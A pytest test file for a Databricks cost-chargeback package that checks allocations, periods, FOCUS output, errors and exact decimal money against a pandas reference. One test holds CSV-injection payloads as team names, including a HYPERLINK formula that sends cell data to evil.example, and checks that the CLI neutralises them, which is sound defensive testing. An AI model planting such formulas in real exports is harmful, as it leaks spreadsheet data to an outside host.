"""dbcost.chargeback against a chargeback computed here with pandas and exact Python Decimals."""
import io
import json
import subprocess
import sys
from decimal import ROUND_FLOOR, ROUND_HALF_EVEN, ROUND_HALF_UP, Decimal
from fractions import Fraction

import pandas as pd
import pytest

import dbcost

ID_ORDER = ["job_id", "cluster_id", "warehouse_id", "run_as", "workspace_id"]
POOL = ("(shared)", "(unallocated)")


def data(root):
    return root / "tests" / "data" / "chargeback"


def utc(text):
    ts = pd.Timestamp(text)
    return ts.tz_localize("UTC") if ts.tzinfo is None else ts.tz_convert("UTC")


def label(ts, period):
    if period == "week":
        year, week, _ = ts.isocalendar()
        return f"{year}-W{week:02d}"
    return ts.strftime("%Y-%m-%d" if period == "day" else "%Y-%m")


def apportion(total, exact):
    """Integers summing to total, each the floor of its exact value or one more (largest remainders)."""
    parts = [int(e.to_integral_value(rounding=ROUND_FLOOR)) for e in exact]
    rem = [e - p for e, p in zip(exact, parts)]
    left = total - sum(parts)
    assert 0 <= left <= len(parts)
    for i in sorted(range(len(parts)), key=lambda i: (-rem[i], i))[:left]:
        parts[i] += 1
    return parts


def largest_remainder(total, weights):
    weights = [Fraction(w) for w in weights]
    if sum(weights) == 0:
        weights = [Fraction(1)] * len(weights)
    total_w, magnitude = sum(weights), abs(total)
    parts = [int(magnitude * w // total_w) for w in weights]
    rem = [magnitude * w - p * total_w for w, p in zip(weights, parts)]
    for i in sorted(range(len(parts)), key=lambda i: (-rem[i], i))[:magnitude - sum(parts)]:
        parts[i] += 1
    return [-p for p in parts] if total < 0 else parts


def reference(usage, prices, owners=None, shared_tags=(), shared_ids=(), mode="proportional", period="month",
              weights=None, team_tag="team"):
    """The chargeback by the documented rules, in pandas and exact Decimals: {(period, team): (dbus, direct, shared)}."""
    u = pd.read_csv(usage, dtype=str, keep_default_na=False)
    lp = pd.read_csv(prices, dtype=str, keep_default_na=False)
    maps = {}
    if owners is not None:
        for kind, g in pd.read_csv(owners, dtype=str).groupby("kind"):
            maps[kind] = dict(zip(g["id"], g["team"]))

    def team_of(row):
        tags = json.loads(row.custom_tags or "{}") or {}
        meta = json.loads(row.get("usage_metadata") or "{}") or {}
        ident = json.loads(row.get("identity_metadata") or "{}") or {}
        ids = {"job_id": meta.get("job_id"), "cluster_id": meta.get("cluster_id"),
               "warehouse_id": meta.get("warehouse_id"), "run_as": ident.get("run_as"),
               "workspace_id": row.get("workspace_id") or None}
        if any(tags.get(k) == v for k, v in shared_tags) or any(i in shared_ids for i in ids.values() if i):
            return "(shared)"
        if tags.get(team_tag):
            return tags[team_tag]
        for kind in ID_ORDER:
            if ids[kind] and ids[kind] in maps.get(kind, {}):
                return maps[kind][ids[kind]]
        return "(unallocated)"

    def price_of(p):
        p = json.loads(p)
        return Decimal((p.get("effective_list") or {}).get("default") or p["default"])

    book = [(r.sku_name, r.cloud, r.usage_unit, r.currency_code, price_of(r.pricing), utc(r.price_start_time),
             utc(r.price_end_time) if r.price_end_time else None) for r in lp.itertuples()]
    groups = {}
    for _, row in u.iterrows():
        start = utc(row.usage_start_time)
        [(i, hit)] = [(i, b) for i, b in enumerate(book) if b[:3] == (row.sku_name, row.cloud.upper(), row.usage_unit)
                      and b[5] <= start and (b[6] is None or start < b[6])]
        key = (label(start, period), hit[3], team_of(row), row.get("workspace_id", ""), i)
        groups[key] = groups.get(key, Decimal(0)) + Decimal(row.usage_quantity)
    rows = {}  # (period, currency) -> team -> [dbus, exact cost]
    for (per, cur, team, _, i), qty in groups.items():
        cost = (qty * book[i][4]).quantize(Decimal("0.000001"), rounding=ROUND_HALF_EVEN)
        r = rows.setdefault((per, cur), {}).setdefault(team, [Decimal(0), Decimal(0)])
        r[0] += qty
        r[1] += cost
    out = {}
    for (per, cur), teams in rows.items():
        bill = sum(c for _, c in teams.values()).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
        names = sorted(teams)
        direct = dict(zip(names, apportion(int(bill * 100), [teams[t][1] * 100 for t in names])))
        recipients = [t for t in names if t not in POOL]
        w = [max(teams[t][1], 0) if mode == "proportional" else 1 for t in recipients]
        if mode == "weights":
            recipients, w = list(weights), list(weights.values())
        pool = sum(direct[t] for t in names if t in POOL)
        spread = mode != "none" and recipients and any(t in POOL for t in names)
        shares = dict(zip(recipients, largest_remainder(pool, w))) if spread else {}
        for t in sorted(set(names) | set(shares)):
            if spread and t in POOL:
                continue
            out[(per, t)] = (teams.get(t, [Decimal(0)])[0], direct.get(t, 0), shares.get(t, 0))
    return out


def as_cents(frame):
    return {(r.period, r.team): (Decimal(str(r.dbus)), round(r.direct_cost * 100), round(r.shared_cost * 100))
            for r in frame.itertuples()}


def check(frame, expected):
    got = as_cents(frame)
    assert set(got) == set(expected)
    for key, (dbus, direct, shared) in expected.items():
        assert got[key][1:] == (direct, shared), key
        assert abs(got[key][0] - dbus) <= Decimal("0.0000005"), key
    assert all(abs(r.total_cost - r.direct_cost - r.shared_cost) < 1e-9 for r in frame.itertuples())


MARCH = dict(shared_tags=[("cost_center", "shared")], shared_ids=["wh-shared"])


@pytest.mark.parametrize("mode,period", [(m, p) for m in ("proportional", "even", "none") for p in ("month", "week", "day")]
                         + [("weights", "month")])
def test_hand_made_export_matches_pandas(root, mode, period):
    d = data(root)
    weights = {"analytics": 3, "data-eng": 1, "finance": 0, "ml": 1} if mode == "weights" else None
    frame = dbcost.chargeback(d / "usage_march.csv", prices=d / "list_prices.csv", owners=d / "owners.csv",
                              shared_tags={"cost_center": "shared"}, shared_ids=["wh-shared"], shared=mode,
                              weights=d / "weights.csv" if mode == "weights" else None, period=period)
    expected = reference(d / "usage_march.csv", d / "list_prices.csv", d / "owners.csv", mode=mode, period=period,
                         weights=weights, **MARCH)
    if mode == "weights":  # April has its own rows in weights.csv but nothing to share
        expected = {k: v for k, v in expected.items() if k[0] != "2026-04" or k[1] == "data-eng"}
    check(frame, expected)
    if period == "month":  # the March bill by hand: 40.265 -> 40.27 (tests/chargeback/allocation_test.cpp)
        assert round(frame[frame.period == "2026-03"].total_cost.sum() * 100) == 4027


@pytest.mark.parametrize("mode", ["proportional", "even", "none"])
def test_generated_export_matches_pandas_on_one_and_two_threads(root, tmp_path, mode):
    subprocess.run([sys.executable, str(root / "bench/chargeback/generate_usage.py"), str(tmp_path), "--rows", "3000",
                    "--seed", "5"], check=True)
    args = dict(prices=tmp_path / "list_prices.csv", owners=tmp_path / "owners.csv",
                shared_tags=["cost_center=shared"], shared_ids=["wh-shared"], shared=mode)
    one = dbcost.chargeback(tmp_path / "usage.csv", threads=1, **args)
    two = dbcost.chargeback(tmp_path / "usage.csv", threads=2, **args)
    pd.testing.assert_frame_equal(one, two)
    check(one, reference(tmp_path / "usage.csv", tmp_path / "list_prices.csv", tmp_path / "owners.csv", mode=mode,
                         **MARCH))
    bill = sum(round(x * 100) for x in one.total_cost)
    assert bill == sum(round(x * 100) for x in one.direct_cost) + sum(round(x * 100) for x in one.shared_cost)


def test_dataframe_input_and_cli_give_the_same_figures(root, cli):
    d = data(root)
    frame = pd.read_csv(d / "usage_march.csv", dtype={"workspace_id": str})
    frame["custom_tags"] = frame["custom_tags"].map(lambda s: json.loads(s) if isinstance(s, str) else None)
    from_frame = dbcost.chargeback(frame, prices=pd.read_csv(d / "list_prices.csv"), owners=d / "owners.csv", **MARCH)
    from_path = dbcost.chargeback(str(d / "usage_march.csv"), prices=str(d / "list_prices.csv"),
                                  owners=str(d / "owners.csv"), **MARCH)
    pd.testing.assert_frame_equal(from_frame, from_path)
    out = subprocess.run([cli, "chargeback", "--usage", str(d / "usage_march.csv"), "--prices",
                          str(d / "list_prices.csv"), "--owners", str(d / "owners.csv"), "--shared-tag",
                          "cost_center=shared", "--shared-id", "wh-shared", "--format", "csv"],
                         capture_output=True, text=True, check=True).stdout
    assert list(pd.read_csv(io.StringIO(out)).columns) == ["period", "team", "dbus", "direct_cost", "shared_cost",
                                                           "total_cost", "currency"]
    money = {c: Decimal for c in ("dbus", "direct_cost", "shared_cost", "total_cost")}
    pd.testing.assert_frame_equal(pd.read_csv(io.StringIO(out), converters=money), from_path)


def test_focus_rows_add_up_to_the_teams(root):
    d = data(root)
    teams = dbcost.chargeback(d / "usage_march.csv", prices=d / "list_prices.csv", owners=d / "owners.csv", **MARCH)
    focus = dbcost.chargeback(d / "usage_march.csv", prices=d / "list_prices.csv", owners=d / "owners.csv",
                              focus=True, **MARCH)
    by_team = focus.groupby(["x_Period", "x_Team"])["BilledCost"].sum()
    for r in teams.itertuples():
        assert by_team[(r.period, r.team)] == r.total_cost
    assert set(focus.x_AllocatedFrom.dropna()) == {"(shared)", "(unallocated)"}
    assert (focus.BilledCost == focus.EffectiveCost).all() and (focus.ChargeCategory == "Usage").all()
    # List prices bill: ListCost = ContractedCost = ListUnitPrice x PricingQuantity, exactly, on every row.
    assert (focus.ListCost == focus.ListUnitPrice * focus.PricingQuantity).all()
    assert (focus.ContractedCost == focus.ListCost).all()
    assert (focus.BillingAccountId == "acc-1").all()


def test_errors_are_located_input_errors(root, tmp_path):
    d = data(root)
    with pytest.raises(dbcost.InputError) as err:
        dbcost.chargeback(d / "usage_bad_quantity.csv", prices=d / "list_prices.csv")
    assert (err.value.line, err.value.column, err.value.field) == (3, 8, "usage_quantity")
    with pytest.raises(dbcost.InputError, match="no price for 3 SKUs"):
        dbcost.chargeback(d / "usage_unpriced.csv", prices=d / "list_prices.csv")
    unpriced = dbcost.chargeback(d / "usage_unpriced.csv", prices=d / "list_prices.csv", allow_unpriced=True)
    assert list(unpriced.team) == ["(unpriced)", "(unpriced)", "data-eng"]
    with pytest.raises(dbcost.InputError, match="weights"):
        dbcost.chargeback(d / "usage_march.csv", prices=d / "list_prices.csv", shared="weights")
    with pytest.raises(ValueError, match="expected proportional, even, weights or none"):
        dbcost.chargeback(d / "usage_march.csv", shared="fair")



def test_a_shared_id_matching_no_record_is_an_input_error(root):
    d = data(root)
    usage = d / "usage_march.csv"
    for threads in (1, 4):
        with pytest.raises(dbcost.InputError) as err:
            dbcost.chargeback(usage, prices=d / "list_prices.csv", shared_ids=["wh-shared", "wh-sharde"],
                              threads=threads)
        assert str(err.value) == (f"{usage}: shared_ids: 'wh-sharde' matches no job_id, cluster_id, warehouse_id, "
                                  "run_as or workspace_id of its records (did you mean 'wh-shared'?)")
        assert err.value.field == "shared_ids"
    frame = pd.read_csv(usage, dtype=str, keep_default_na=False)
    with pytest.raises(dbcost.InputError) as err:
        dbcost.chargeback(frame, prices=d / "list_prices.csv", shared_ids=["nightly-reports"])
    assert str(err.value) == ("<usage DataFrame>: shared_ids: 'nightly-reports' matches no job_id, cluster_id, "
                              "warehouse_id, run_as or workspace_id of its records")
    # One export of several: the id may be in another, so usage_ledger reads it as given.
    assert dbcost.usage_ledger(usage, prices=d / "list_prices.csv", shared_ids=["nightly-reports"]).records == 17

def test_idle_spend_is_shown_apart(root):
    d = data(root)
    frame = dbcost.chargeback(d / "usage_idle.csv", prices=d / "list_prices.csv")
    row = frame[frame.team == "analytics"].iloc[0]
    # 4.25 idle DBU of 10 at 0.55 = 2.3375 -> 2.34, part of the 5.50 direct cost.
    assert (row.idle_dbus, row.idle_cost, row.direct_cost) == (Decimal("4.25"), Decimal("2.34"), Decimal("5.50"))


def test_money_is_exact_decimal(tmp_path):
    """Teams of 0.10 and 0.02: floats would sum to 0.12000000000000001, the bill is 0.12."""
    header = ("record_id,account_id,workspace_id,sku_name,cloud,usage_start_time,usage_end_time,custom_tags,"
              "usage_unit,usage_quantity\n")
    rows = "".join(f'r{i},acc,1,PREMIUM_JOBS_COMPUTE,AZURE,2026-03-02T10:00:00Z,2026-03-02T11:00:00Z,'
                   f'"{{""team"":""{t}""}}",DBU,{q}\n' for i, (t, q) in enumerate([("a", 10), ("b", 2)]))
    (tmp_path / "usage.csv").write_text(header + rows)
    (tmp_path / "prices.csv").write_text(
        "price_start_time,price_end_time,sku_name,cloud,currency_code,usage_unit,pricing\n"
        '2026-01-01,,PREMIUM_JOBS_COMPUTE,AZURE,USD,DBU,"{""default"":0.01}"\n')
    frame = dbcost.chargeback(tmp_path / "usage.csv", prices=tmp_path / "prices.csv")
    assert all(isinstance(v, Decimal) for col in ("dbus", "direct_cost", "shared_cost", "total_cost")
               for v in frame[col])
    assert frame.total_cost.sum() == Decimal("0.12")
    assert sum(float(x) for x in frame.total_cost) != 0.12  # what a float column would have given
    focus = dbcost.chargeback(tmp_path / "usage.csv", prices=tmp_path / "prices.csv", focus=True)
    assert focus.BilledCost.sum() == Decimal("0.12")
    assert list(focus.ListUnitPrice) == [Decimal("0.01")] * 2
    assert focus.x_AllocatedFrom.isna().all()


def test_formula_like_teams_are_raw_in_frames_and_neutralised_in_cli_csv(cli, root):
    d = data(root)
    usage, prices = d / "usage_hostile.csv", d / "list_prices.csv"
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    frame = dbcost.chargeback(usage, prices=prices)
    focus = dbcost.chargeback(usage, prices=prices, focus=True)
    for teams in (set(frame.team), set(focus.x_Team)):
        assert {hyperlink, "@SUM(1+9)", "-2+3", "\t=1+2", "\x1b[31mred\x1b[0m", "line\nbreak"} <= teams
    assert frame.set_index("team").total_cost["refunds"] == Decimal("-1.65")

    def cli_teams(*extra):
        out = subprocess.run([cli, "chargeback", "--usage", str(usage), "--prices", str(prices), *extra],
                             capture_output=True, text=True, check=True).stdout
        return pd.read_csv(io.StringIO(out), keep_default_na=False)

    csv_out = cli_teams("--format", "csv")
    assert {"'" + hyperlink, "'@SUM(1+9)", "'-2+3", "'\t=1+2"} <= set(csv_out.team)
    assert csv_out.set_index("team").total_cost["refunds"] == pytest.approx(-1.65)  # still a number
    assert set(cli_teams("--format", "focus").x_Team) == set(csv_out.team)
    raw = cli_teams("--format", "csv", "--raw-csv")
    assert set(raw.team) == set(frame.team)
